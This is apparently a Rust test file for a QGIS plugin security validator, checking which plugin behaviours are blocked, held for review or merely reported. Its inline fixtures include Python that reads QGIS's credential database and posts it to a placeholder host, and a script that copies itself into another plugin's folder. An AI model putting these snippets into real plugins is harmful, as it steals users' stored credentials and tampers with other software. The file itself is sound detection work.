//! Graded actions through the policy: a complete chain blocks, the same capabilities without a
//! traced flow are held for review, and a script QGIS does not load is held for review at most.

use validator_behaviour::BehaviourCheck;
use validator_domain::{run_on_zip, Finding};
use validator_policy::{Policy, RuleSet};
use validator_testkit::ZipBuilder;

/// The check's findings on a plugin `demo` made of `files`, rated by the shipped policy.
fn rated(files: &[(&str, &str)]) -> Vec<Finding> {
    let files: Vec<(&str, &[u8])> = files.iter().map(|(p, t)| (*p, t.as_bytes())).collect();
    rated_bytes(&files)
}

fn rated_bytes(files: &[(&str, &[u8])]) -> Vec<Finding> {
    let mut zip = ZipBuilder::new().dir("demo/");
    for (path, bytes) in files {
        zip = zip.bytes(&format!("demo/{path}"), bytes, 0o644);
    }
    let findings = run_on_zip(&BehaviourCheck, zip.build())
        .expect("check runs")
        .findings;
    Policy::default().evaluate(&BehaviourCheck, findings, RuleSet::Policy, &[])
}

fn finding<'f>(findings: &'f [Finding], rule: &str) -> &'f Finding {
    findings
        .iter()
        .find(|f| f.rule == rule)
        .unwrap_or_else(|| panic!("no {rule} in {findings:#?}"))
}

/// Loads a module by a computed name: every file counts as loaded (BHV901).
const DYNAMIC_INIT: &str = "import importlib\n\
def classFactory(iface):\n    name = iface.objectName()\n    \
return importlib.import_module('.' + name, __package__)\n";

/// Copies itself into another plugin's folder (BHV006), as a developer script.
const SCRIPT: &str = "import os\nimport shutil\nfrom qgis.utils import home_plugin_path\n\n\
def install():\n    shutil.copy(__file__, os.path.join(home_plugin_path, 'other', '__init__.py'))\n\n\
if __name__ == '__main__':\n    install()\n";

#[test]
fn a_script_nothing_imports_is_held_for_review_not_blocked_even_with_dynamic_loading() {
    let findings = rated(&[("__init__.py", DYNAMIC_INIT), ("devtools/entry.py", SCRIPT)]);
    finding(&findings, "BHV901");
    let write = finding(&findings, "BHV006");
    assert!(write.review && !write.blocking, "{write:#?}");
    assert!(write.review_at_most.is_some(), "{write:#?}");
}

#[test]
fn the_same_code_imported_by_the_plugin_blocks() {
    let init = format!("{DYNAMIC_INIT}from .devtools import entry\n");
    let findings = rated(&[
        ("__init__.py", init.as_str()),
        ("devtools/__init__.py", ""),
        ("devtools/entry.py", SCRIPT),
    ]);
    let write = finding(&findings, "BHV006");
    assert!(write.blocking && !write.review, "{write:#?}");
    assert!(write.review_at_most.is_none(), "{write:#?}");
}

#[test]
fn a_credential_flow_blocks_and_credentials_beside_network_calls_are_held() {
    let flow = rated(&[(
        "__init__.py",
        "import requests\nfrom qgis.core import QgsApplication\n\n\
def run():\n    blob = open(QgsApplication.qgisAuthDatabaseFilePath(), 'rb').read()\n    \
requests.post('https://x.example.invalid', data=blob)\n",
    )]);
    let sent = finding(&flow, "BHV001");
    assert!(sent.blocking, "{sent:#?}");
    assert!(sent.message.contains("flows to"), "{}", sent.message);

    let beside = rated(&[(
        "__init__.py",
        "import os\nimport requests\nfrom qgis.core import QgsApplication\n\n\
def exists():\n    return os.path.exists(QgsApplication.qgisAuthDatabaseFilePath())\n\n\
def ping():\n    requests.get('https://x.example.invalid')\n",
    )]);
    assert!(beside.iter().all(|f| f.rule != "BHV001"), "{beside:#?}");
    let held = finding(&beside, "BHV107");
    assert!(held.review && !held.blocking, "{held:#?}");
}

/// A corpus sample (`tests/fixtures/behaviour/<kind>/<case>/`) as plugin `demo`, rated
/// (`*.hex` files are written as the bytes they spell, as the corpus test does).
fn rated_sample(case: &str) -> Vec<Finding> {
    fn collect(dir: &std::path::Path, prefix: &str, out: &mut Vec<(String, Vec<u8>)>) {
        for entry in std::fs::read_dir(dir).expect("sample folder").flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            let path = entry.path();
            if path.is_dir() {
                collect(&path, &format!("{prefix}{name}/"), out);
            } else if let Some(real) = name.strip_suffix(".hex") {
                let text = std::fs::read_to_string(&path).expect("hex sample");
                let digits: Vec<u8> = text.bytes().filter(u8::is_ascii_hexdigit).collect();
                let bytes = digits
                    .chunks(2)
                    .map(|p| u8::from_str_radix(std::str::from_utf8(p).expect("ascii"), 16))
                    .collect::<Result<Vec<u8>, _>>()
                    .expect("hex sample");
                out.push((format!("{prefix}{real}"), bytes));
            } else if name != "expected.txt" {
                out.push((
                    format!("{prefix}{name}"),
                    std::fs::read(&path).expect("sample"),
                ));
            }
        }
    }
    let root = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../tests/fixtures/behaviour")
        .join(case);
    let mut files = Vec::new();
    collect(&root, "", &mut files);
    let files: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(n, b)| (n.as_str(), b.as_slice()))
        .collect();
    rated_bytes(&files)
}

#[test]
fn pip_installing_named_packages_from_pypi_is_reported_not_held() {
    for case in [
        "benign/pip_named_dependency_installer",
        "benign/pip_bundled_wheels_find_links",
        "malicious/pip_install_subprocess",
    ] {
        let findings = rated_sample(case);
        let install = finding(&findings, "BHV101");
        assert!(!install.review && !install.blocking, "{case}: {install:#?}");
        assert!(install.without_evidence.is_some(), "{case}: {install:#?}");
    }
}

#[test]
fn pip_installing_from_elsewhere_or_a_name_chosen_at_run_time_is_held() {
    for (case, evidence) in [
        ("malicious/pip_install_extra_index", "pkgs.example.invalid"),
        (
            "malicious/pip_install_fetched_name",
            "read from the network",
        ),
        (
            "malicious/pip_install_vcs_url",
            "git+https://git.example.invalid",
        ),
    ] {
        let findings = rated_sample(case);
        let install = finding(&findings, "BHV101");
        assert!(install.review && !install.blocking, "{case}: {install:#?}");
        assert!(
            install.message.contains(evidence),
            "{case}: {}",
            install.message
        );
    }
}

#[test]
fn a_python_extension_of_a_bundled_package_is_reported_other_native_code_is_held() {
    let findings = rated_sample("benign/native_extension_of_bundled_package");
    let native = finding(&findings, "BHV103");
    assert!(!native.review && !native.blocking, "{native:#?}");
    assert!(native.message.contains("`fastgeo`"), "{}", native.message);
    for case in [
        "malicious/native_ctypes_vendor_folder",
        "malicious/native_elf_extension",
        "malicious/native_pe_renamed",
    ] {
        let findings = rated_sample(case);
        let native = finding(&findings, "BHV103");
        assert!(native.review && !native.blocking, "{case}: {native:#?}");
    }
}

#[test]
fn an_update_from_the_plugins_declared_home_is_reported_from_elsewhere_held() {
    let findings = rated_sample("benign/updater_vendor_homepage");
    let update = finding(&findings, "BHV102");
    assert!(!update.review && !update.blocking, "{update:#?}");
    for case in [
        "malicious/selfupdate_other_host",
        "malicious/selfupdate_extract_own",
    ] {
        let findings = rated_sample(case);
        let update = finding(&findings, "BHV102");
        assert!(update.review && !update.blocking, "{case}: {update:#?}");
    }
}

#[test]
fn a_typed_password_sent_to_a_host_the_plugin_names_blocks_one_sent_to_the_users_server_does_not() {
    for case in [
        "malicious/phish_login_dialog_constant_host",
        "malicious/phish_input_dialog_helper",
    ] {
        let findings = rated_sample(case);
        let phish = finding(&findings, "BHV010");
        assert!(phish.blocking, "{case}: {phish:#?}");
        assert!(
            phish.message.contains("example.invalid"),
            "{}",
            phish.message
        );
    }
    for case in [
        "benign/login_dialog_configured_server",
        "benign/password_dialog_auth_config_url",
    ] {
        let findings = rated_sample(case);
        assert!(
            findings.iter().all(|f| !f.blocking && !f.review),
            "{case}: {findings:#?}"
        );
    }
}

#[test]
fn a_typed_password_sent_to_the_plugins_declared_home_is_held_not_blocked() {
    let findings = rated_sample("benign/service_login_declared_homepage_other_module");
    let login = finding(&findings, "BHV010");
    assert!(login.review && !login.blocking, "{login:#?}");
    let findings = rated_sample("heldback/set6/malicious/phish_osgeo_id_b64_host");
    let phish = finding(&findings, "BHV010");
    assert!(phish.blocking, "{phish:#?}");
}

#[test]
fn enabling_a_named_plugin_is_reported_only_when_metadata_declares_dependencies() {
    let findings = rated_sample("benign/enable_declared_dependency_plugin");
    let enable = finding(&findings, "BHV110");
    assert!(!enable.review && !enable.blocking, "{enable:#?}");
    for case in [
        "malicious/enable_computed_plugin_with_dependencies",
        "malicious/tamper_enable_other_plugin",
    ] {
        let findings = rated_sample(case);
        let enable = finding(&findings, "BHV110");
        assert!(enable.review, "{case}: {enable:#?}");
    }
}

/// The first bytes of a Windows program (an MZ header pointing at a PE signature).
fn pe_head() -> Vec<u8> {
    let mut bytes = b"MZ".to_vec();
    bytes.resize(0x3c, 0);
    bytes.extend_from_slice(&0x40u32.to_le_bytes());
    bytes.extend_from_slice(b"PE\0\0");
    bytes.resize(0x200, 0);
    bytes
}

fn native_action(findings: &[Finding], path: &str) -> (bool, bool) {
    let native = findings
        .iter()
        .find(|f| f.rule == "BHV103" && f.path == format!("demo/{path}"))
        .unwrap_or_else(|| panic!("no BHV103 on {path} in {findings:#?}"));
    (native.review, native.blocking)
}

#[test]
fn shipped_native_code_with_declared_provenance_is_reported_disguised_or_undocumented_held() {
    let pe = pe_head();
    let init: &[u8] = b"def classFactory(iface):\n    return None\n";
    let findings = rated_bytes(&[
        ("__init__.py", init),
        (
            "README.md",
            b"Runs the Solver engine (solver 5.2) on the network.\n",
        ),
        ("LICENSE", b"GPL\n"),
        // Documented by name in the README, version digits and platform parts aside.
        ("tools/engine/solver52_win64.exe", &pe),
        // A library beside it: its runtime.
        ("tools/engine/runtime.dll", &pe),
        // A licence beside it.
        ("tools/viewer/viewer.exe", &pe),
        ("tools/viewer/license.txt", b"MIT\n"),
        // Named like an image: disguised, whatever the README says.
        ("tools/engine/solver.png", &pe),
        // Undocumented, with nothing beside it.
        ("bin/updater.exe", &pe),
        // The plugin's own LICENSE at its top level is not the binary's.
        ("helper.exe", &pe),
    ]);
    for reported in [
        "tools/engine/solver52_win64.exe",
        "tools/engine/runtime.dll",
        "tools/viewer/viewer.exe",
    ] {
        assert_eq!(
            native_action(&findings, reported),
            (false, false),
            "{reported}"
        );
    }
    for held in ["tools/engine/solver.png", "bin/updater.exe", "helper.exe"] {
        assert_eq!(native_action(&findings, held), (true, false), "{held}");
    }
}

#[test]
fn native_code_named_as_a_phrase_in_the_release_notes_is_reported_scattered_words_held() {
    let pe = pe_head();
    let init: &[u8] =
        b"from .lib import terrain_analysis\n\ndef classFactory(iface):\n    return None\n";
    let metadata: &[u8] = b"[general]\nname=Demo\nqgisMinimumVersion=3.0\n\
        description=Fluvial tools\nversion=1.0\nauthor=A\nemail=a@example.org\n\
        about=Fluvial corridor tools.\nrepository=https://example.org/demo\n\
        changelog=1.0\n\t- Cython terrain analysis extensions for windows\n\
        \t- faster flow accumulation; a new solver for flats\n";
    let findings = rated_bytes(&[
        ("__init__.py", init),
        ("metadata.txt", metadata),
        ("lib/__init__.py", b""),
        // Its name's words, as a phrase, in the release notes the plugin page shows.
        ("lib/terrain_analysis.cp37-win_amd64.pyd", &pe),
        // Its words appear, but apart: nothing names it.
        ("lib/flow_solver.cp37-win_amd64.pyd", &pe),
    ]);
    assert_eq!(
        native_action(&findings, "lib/terrain_analysis.cp37-win_amd64.pyd"),
        (false, false)
    );
    assert_eq!(
        native_action(&findings, "lib/flow_solver.cp37-win_amd64.pyd"),
        (true, false)
    );
}

fn elf_head() -> Vec<u8> {
    let mut bytes = b"\x7fELF\x02\x01\x01".to_vec();
    bytes.resize(0x200, 0);
    bytes
}

#[test]
fn native_code_built_from_shipped_sources_or_noticed_by_its_wrapper_is_reported() {
    let (pe, elf) = (pe_head(), elf_head());
    let init: &[u8] = b"def classFactory(iface):\n    return None\n";
    let cmake: &[u8] = b"project(MeshGen LANGUAGES CXX)\nadd_library(MeshGen SHARED meshgen.cpp)\n";
    let wrapper: &[u8] = b"# FastMath 3.1 (c) FastMath project. Copyright (c) 2020 J. Doe.\n\
                           # Licensed under the BSD licence.\nimport ctypes\n";
    let findings = rated_bytes(&[
        ("__init__.py", init),
        // A CMake recipe in the component's sources folder names the library it builds.
        ("backend/meshgen/src/CMakeLists.txt", cmake),
        (
            "backend/meshgen/src/meshgen.cpp",
            b"int mesh() { return 0; }\n",
        ),
        ("backend/meshgen/lib/libMeshGen.so", &elf),
        ("backend/meshgen/bin/MeshGen.dll", &pe),
        // Beside the recipe, but not what it builds.
        ("backend/meshgen/bin/updater.exe", &pe),
        // A recipe without any source it could compile vouches for nothing.
        ("engine/CMakeLists.txt", b"add_executable(solver main.c)\n"),
        ("engine/solver.exe", &pe),
        // A ctypes wrapper whose licence notice names the library beside it.
        ("lib/xfastmath.py", wrapper),
        ("lib/fastmath31_64.dll", &pe),
        // A wrapper with a notice that names another library, and one without a notice.
        ("ext/loader.py", wrapper),
        ("ext/crypter.dll", &pe),
        (
            "tools/run.py",
            b"import ctypes\nctypes.CDLL('toolkit.so')\n# Copyright toolkit\n",
        ),
        ("tools/toolkit.so", &elf),
    ]);
    for reported in [
        "backend/meshgen/lib/libMeshGen.so",
        "backend/meshgen/bin/MeshGen.dll",
        "lib/fastmath31_64.dll",
    ] {
        assert_eq!(
            native_action(&findings, reported),
            (false, false),
            "{reported}"
        );
    }
    for held in [
        "backend/meshgen/bin/updater.exe",
        "engine/solver.exe",
        "ext/crypter.dll",
        "tools/toolkit.so",
    ] {
        assert_eq!(native_action(&findings, held), (true, false), "{held}");
    }
}

/// A Windows program whose version resource says it was built as `built_as`.
fn pe_built_as(built_as: &str) -> Vec<u8> {
    let mut bytes = pe_head();
    for text in ["OriginalFilename", built_as] {
        bytes.extend(text.encode_utf16().chain([0, 0]).flat_map(u16::to_le_bytes));
    }
    bytes
}

#[test]
fn a_program_built_by_a_shipped_msbuild_project_is_reported_under_its_built_name() {
    let init: &[u8] = b"def classFactory(iface):\n    return None\n";
    let project: &[u8] = b"<Project Sdk=\"Microsoft.NET.Sdk\"><PropertyGroup>\
        <OutputType>Exe</OutputType>\
        <AssemblyName>step2sql_$(IfcSpecification)</AssemblyName>\
        </PropertyGroup></Project>";
    let plain: &[u8] = b"<Project><PropertyGroup><OutputType>Exe</OutputType>\
        </PropertyGroup></Project>";
    let (renamed, other, by_file) = (
        pe_built_as("step2sql_IFC4.exe"),
        pe_built_as("collector.exe"),
        pe_head(),
    );
    let findings = rated_bytes(&[
        ("__init__.py", init),
        // Built as `step2sql_IFC4.exe` by the project below, shipped under another name.
        ("scripts/Import_IFC4.exe", &renamed),
        ("scripts/apps/step2sql/step2sql.csproj", project),
        (
            "scripts/apps/step2sql/Program.cs",
            b"class P { static void Main() {} }\n",
        ),
        // A project with no AssemblyName builds its file's name.
        ("tools/exporter.exe", &by_file),
        ("tools/src/exporter.vbproj", plain),
        ("tools/src/Main.vb", b"Module M\nEnd Module\n"),
        // Built as something no project names.
        ("scripts/Import_IFC2.exe", &other),
        // A project without a source file vouches for nothing.
        ("bin/packer.exe", &by_file),
        ("bin/packer.csproj", plain),
    ]);
    for reported in ["scripts/Import_IFC4.exe", "tools/exporter.exe"] {
        assert_eq!(
            native_action(&findings, reported),
            (false, false),
            "{reported}"
        );
    }
    for held in ["scripts/Import_IFC2.exe", "bin/packer.exe"] {
        assert_eq!(native_action(&findings, held), (true, false), "{held}");
    }
}

#[test]
fn an_archive_extracted_into_a_data_folder_is_reported_into_code_held() {
    let findings = rated_sample("benign/download_extract_into_data_folder");
    let update = finding(&findings, "BHV102");
    assert!(!update.review && !update.blocking, "{update:#?}");
    assert!(update.message.contains("data"), "{}", update.message);
    for case in [
        "malicious/selfupdate_extract_data_folder_imported",
        "malicious/selfupdate_extract_own",
        "malicious/selfupdate_other_host",
    ] {
        let findings = rated_sample(case);
        let update = finding(&findings, "BHV102");
        assert!(update.review, "{case}: {update:#?}");
    }
}

/// A plugin whose repository is `repository` and whose `deps.py` pip-installs `targets`.
fn installing(repository: &str, targets: &[&str]) -> Vec<Finding> {
    let metadata = format!(
        "[general]\nname=Mapper\nqgisMinimumVersion=3.22\ndescription=Maps\nversion=1.0\n\
         author=Alice\nemail=alice@example.invalid\nrepository={repository}\n"
    );
    let quoted: Vec<String> = targets.iter().map(|t| format!("{t:?}")).collect();
    let deps = format!(
        "import subprocess\nimport sys\n\n\ndef install():\n    subprocess.run([sys.executable, \
         \"-m\", \"pip\", \"install\", {}], check=True)\n",
        quoted.join(", ")
    );
    rated(&[
        ("__init__.py", "def classFactory(iface):\n    return None\n"),
        ("metadata.txt", &metadata),
        ("deps.py", &deps),
    ])
}

#[test]
fn packages_from_the_authors_own_tagged_releases_are_reported_others_held() {
    let own_repo = "https://github.com/alice/mapper_plugin";
    let own = "https://github.com/alice/mapper-core/releases/download/v1.2.0/mapper_core-1.2.0-py3-none-any.whl";
    let findings = installing(own_repo, &[own]);
    let install = finding(&findings, "BHV101");
    assert!(!install.review && !install.blocking, "{install:#?}");
    let gitlab = "https://gitlab.com/alice/mapper-core/-/releases/v1.2.0/downloads/mapper_core.whl";
    let findings = installing("https://gitlab.com/alice/mapper_plugin", &[gitlab]);
    assert!(!finding(&findings, "BHV101").review, "{findings:#?}");
    let held = [
        // Beside the author's own, a package from another account.
        (
            own_repo,
            vec![
                own,
                "https://github.com/mallory/x/releases/download/v1/x-1-py3-none-any.whl",
            ],
        ),
        // Another account's release.
        (
            own_repo,
            vec!["https://github.com/mallory/mapper-core/releases/download/v1.2.0/m.whl"],
        ),
        // The author's branch head, not a tagged release.
        (
            own_repo,
            vec!["https://github.com/alice/mapper-core/archive/refs/heads/main.zip"],
        ),
        // A host that only starts like the code host.
        (
            own_repo,
            vec!["https://github.com.example.invalid/alice/m/releases/download/v1/m.whl"],
        ),
        // The same path on another host than the declared repository's.
        (
            own_repo,
            vec!["https://codeberg.org/alice/mapper-core/releases/download/v1/m.whl"],
        ),
        // No repository on a code host declared.
        ("https://maps.example.invalid/mapper", vec![own]),
    ];
    for (repository, targets) in held {
        let findings = installing(repository, &targets);
        let install = finding(&findings, "BHV101");
        assert!(install.review, "{repository} {targets:?}: {install:#?}");
    }
}
